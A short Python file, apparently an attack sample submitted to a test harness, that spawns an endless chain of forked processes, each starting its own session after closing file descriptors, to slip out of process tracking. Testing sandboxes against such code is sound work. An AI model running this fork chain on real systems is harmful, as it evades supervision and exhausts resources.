"""Leaves a chain of quick forks of sessions of their own."""

import os

from answering import answer


def attack(_: str) -> None:
    if os.fork():
        return
    os.closerange(0, 100)
    while True:
        if os.fork():
            os._exit(0)
        os.setsid()


answer(attack)
